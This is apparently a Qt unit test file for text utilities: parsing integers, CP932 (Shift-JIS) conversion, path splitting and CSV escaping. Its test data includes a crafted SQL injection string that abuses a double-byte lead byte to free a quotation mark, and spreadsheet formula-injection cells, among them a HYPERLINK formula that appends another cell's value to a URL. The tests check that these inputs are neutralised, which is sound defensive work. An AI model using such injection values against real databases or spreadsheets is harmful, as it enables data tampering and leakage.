// Text helpers, the CP932 conversion and the splitting of stored paths.
#include <QtTest>

#include "text/cp932.h"
#include "text/entrycsv.h"
#include "text/pathname.h"
#include "text/textutil.h"

class TestText : public QObject {
    Q_OBJECT
private slots:
    void strToIntOrZero_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<int>("value");
        QTest::newRow("plain") << "12" << 12;
        QTest::newRow("leading blank") << " 12" << 12;
        QTest::newRow("trailing blank") << "12 " << 0;
        QTest::newRow("negative") << "-7" << -7;
        QTest::newRow("plus") << "+7" << 7;
        QTest::newRow("dollar hex") << "$1F" << 31;
        QTest::newRow("0x hex") << "0x1f" << 31;
        QTest::newRow("x hex") << "X10" << 16;
        QTest::newRow("hex pattern") << "$FFFFFFFF" << -1;
        QTest::newRow("hex too long") << "$123456789" << 0;
        QTest::newRow("hex no digits") << "$" << 0;
        QTest::newRow("hex bad digit") << "$1G" << 0;
        QTest::newRow("empty") << "" << 0;
        QTest::newRow("blanks") << "   " << 0;
        QTest::newRow("letters") << "abc" << 0;
        QTest::newRow("sign only") << "-" << 0;
        QTest::newRow("max") << "2147483647" << 2147483647;
        QTest::newRow("above max") << "2147483648" << 0;
        QTest::newRow("min") << "-2147483648" << int(INT32_MIN);
        QTest::newRow("below min") << "-2147483649" << 0;
        QTest::newRow("huge") << "99999999999999999999999" << 0;
        QTest::newRow("inner blank") << "1 2" << 0;
    }
    void strToIntOrZero()
    {
        QFETCH(QString, text);
        QFETCH(int, value);
        QCOMPARE(StrToIntOrZero(text.toStdString()), value);
    }

    void cleanText()
    {
        QCOMPARE(CleanText("a'b"), std::string("ab"));
        QCOMPARE(CleanText("a\"b\tc\r\n d"), std::string("abc d"));
        QCOMPARE(CleanText("  x  "), std::string("  x  "));
        // Second bytes 0x5C and 0x7C, and a second byte that is a quotation mark's neighbour, stay whole.
        QCOMPARE(CleanText("\x95\x5C\x83\x7C"), std::string("\x95\x5C\x83\x7C"));
        // Lead bytes 0x80 and 0xFD pair only with a valid second byte (0x40-0x7E, 0x80-0xFC).
        QCOMPARE(CleanText("\x80\x40\xFD\xFC\x81\x7E\x81\x80"), std::string("\x80\x40\xFD\xFC\x81\x7E\x81\x80"));
        // A crafted memo: the lead byte is dropped and the quotation mark judged alone, so
        // it cannot end a literal; the same for a control character, a byte below 0x40 and
        // 0x7F, 0xFD and 0xFE as would-be second bytes.
        QCOMPARE(CleanText("\x81'||(select 1)"), std::string("||(select 1)"));
        QCOMPARE(CleanText("\x80'\xFD\""), std::string());
        QCOMPARE(CleanText("\x95\tx\x95\x3Fy\x95\x7F\x95\xFD\x40\x95\xFE"), std::string("x\x3Fy\x7F\xFD\x40\xFE"));
        // A lone lead byte at the end is dropped; 0xFE/0xFF and half-width kana are single bytes.
        QCOMPARE(CleanText("ab\x95"), std::string("ab"));
        QCOMPARE(CleanText("\xFE\xFF\xB1'"), std::string("\xFE\xFF\xB1"));
        QCOMPARE(CleanText(""), std::string());
    }

    void helpers()
    {
        QVERIFY(HasQuote("a'b") && HasQuote("\"") && !HasQuote("ab"));
        QCOMPARE(TextLiteral(""), std::string("NULL"));
        QCOMPARE(TextLiteral(" "), std::string("' '"));
        // A single quotation mark is doubled, a double one is not; the second byte 0x5C
        // of 表 stays as it is.
        QCOMPARE(TextLiteral("it's \"x\" \x95\x5C''"), std::string("'it''s \"x\" \x95\x5C'''''"));
        QCOMPARE(TrimText(" \t a b \r\n"), std::string("a b"));
        QCOMPARE(UpperText("my.gdb\x83\x61"), std::string("MY.GDB\x83\x61"));   // ソ-like pair untouched
        QCOMPARE(CutBytes("ab\x95\x5C", 3), std::string("ab"));
        QCOMPARE(CutBytes("ab\x95\x5C", 4), std::string("ab\x95\x5C"));
    }

    void cp932Conversion()
    {
        // 表 ソ ｱ ポ and the backslash round-trip byte for byte.
        const std::string bytes = "\x95\x5C\x83\x5C\xB1\x83\x7C\\";
        QString q = ToQ(bytes);
        QCOMPARE(q, QString::fromUtf8("表ソｱポ\\"));
        QCOMPARE(FromQ(q).value(), bytes);
        QCOMPARE(Cp932Length(q), 8);

        // A character without a CP932 form is reported, not replaced.
        QVERIFY(!FromQ(QString::fromUtf8("a😀b")).has_value());
        QVERIFY(!FromQ(QString::fromUtf8("한")).has_value());
        QCOMPARE(FromQLossy(QString::fromUtf8("a😀表")), std::string("a?\x95\x5C"));

        // Unmapped bytes and a lone lead byte display as U+FFFD without failing.
        // 0x80 and 0xFD stand alone here, though stored text keeps them with the next byte.
        QCOMPARE(ToQ("a\x80" "b"), QString::fromUtf8("a\uFFFDb"));
        QCOMPARE(ToQ("a\xFD" "b"), QString::fromUtf8("a\uFFFDb"));
        QCOMPARE(ToQ("a\x95"), QString::fromUtf8("a\uFFFD"));

        // Names of files must read back as exactly themselves: iconv maps these one way.
        for (const char* oneWay : {"1〜3階.jww", "em—dash.jww", "−", "‖", "¢", "£", "¬"}) {
            QVERIFY2(FromQ(QString::fromUtf8(oneWay)).has_value(), oneWay);
            QVERIFY2(!FromQExact(QString::fromUtf8(oneWay)).has_value(), oneWay);
        }
        QCOMPARE(FromQExact(q).value(), bytes);
        QCOMPARE(FromQExact(QString::fromUtf8("～＿ー―.jww")).value(), FromQ(QString::fromUtf8("～＿ー―.jww")).value());

        QCOMPARE(ToFsName("\x95\x5C.jww"), std::string("表.jww"));
    }

    void pathsSplitOnlyWhereTheSystemSplits()
    {
        // Here a backslash or a colon is part of a name.
        QCOMPARE(PathFolder("/d/back\\slash.jww"), std::string("/d/"));
        QCOMPARE(PathFileName("/d/back\\slash.jww"), std::string("back\\slash.jww"));
        QCOMPARE(PathFileName("/d/a:b.jww"), std::string("a:b.jww"));
        QCOMPARE(PathFolder("/d:x/\\y/z.jww"), std::string("/d:x/\\y/"));
        QCOMPARE(FileTypeOf("back\\slash.JWW"), std::string(".jww"));
        // Paths a copy of the program on Windows stored split as Windows splits them.
        QVERIFY(IsWindowsPath("Z:\\a.jww") && IsWindowsPath("z:a.jww") && IsWindowsPath("\\\\srv\\s\\a.jww"));
        QVERIFY(!IsWindowsPath("/Z:/a.jww") && !IsWindowsPath("1:a") && !IsWindowsPath("Z") && !IsWindowsPath(""));
        QCOMPARE(PathFileName("\\\\srv\\share\\a.jww"), std::string("a.jww"));
        QCOMPARE(PathFolder("Z:\\w/x\\a.jww"), std::string("Z:\\w/x\\"));
    }

    void pathsSplitHonouringDoubleByteCharacters()
    {
        // In a Windows path the second byte of ソ and 表, a backslash, separates nothing.
        const std::string so = "\x83\x5C", hyo = "\x95\x5C";
        const std::string folder = "C:\\d\\" + so + hyo + "\\";
        QCOMPARE(PathFolder(folder + "x" + so + ".JWW"), folder);
        QCOMPARE(PathFileName(folder + "x" + so + ".JWW"), "x" + so + ".JWW");
        QCOMPARE(FileTypeOf("x" + so + ".JWW"), std::string(".jww"));
        QCOMPARE(FileTypeOf("plan.tar.GZ"), std::string(".gz"));
        QCOMPARE(FileTypeOf("noext"), std::string());
        QCOMPARE(FileTypeOf("a.b/noext"), std::string());
        // Paths stored by a copy of the program on Windows.
        QCOMPARE(PathFolder("C:\\work\\a.jww"), std::string("C:\\work\\"));
        QCOMPARE(PathFileName("C:a.jww"), std::string("a.jww"));
        QCOMPARE(PathFolder("nofolder.jww"), std::string());
    }
    // A cell that a spreadsheet would run as a formula is written as text.
    void csvCellsNeverRunAsFormulas_data()
    {
        QTest::addColumn<QString>("cell");
        QTest::addColumn<QString>("written");
        QTest::newRow("plain") << "図面 A-1" << "図面 A-1";
        QTest::newRow("comma quoted") << "a,b" << "\"a,b\"";
        QTest::newRow("hyperlink") << "=HYPERLINK(\"http://x\"&C2,\"open\")"
                                   << "\"'=HYPERLINK(\"\"http://x\"\"&C2,\"\"open\"\")\"";
        QTest::newRow("plus") << "+1+1" << "'+1+1";
        QTest::newRow("minus") << "-2+3" << "'-2+3";
        QTest::newRow("at") << "@SUM(1,1)" << "\"'@SUM(1,1)\"";
        QTest::newRow("tab") << "\t=1" << "'\t=1";
        QTest::newRow("carriage return") << "\r=1" << "\"'\r=1\"";
        QTest::newRow("inside is harmless") << "a=1" << "a=1";
        QTest::newRow("empty") << "" << "";
    }
    void csvCellsNeverRunAsFormulas()
    {
        QFETCH(QString, cell);
        QFETCH(QString, written);
        QCOMPARE(QString::fromStdString(CsvField(cell.toStdString())), written);
    }
};

QTEST_GUILESS_MAIN(TestText)
#include "test_text.moc"
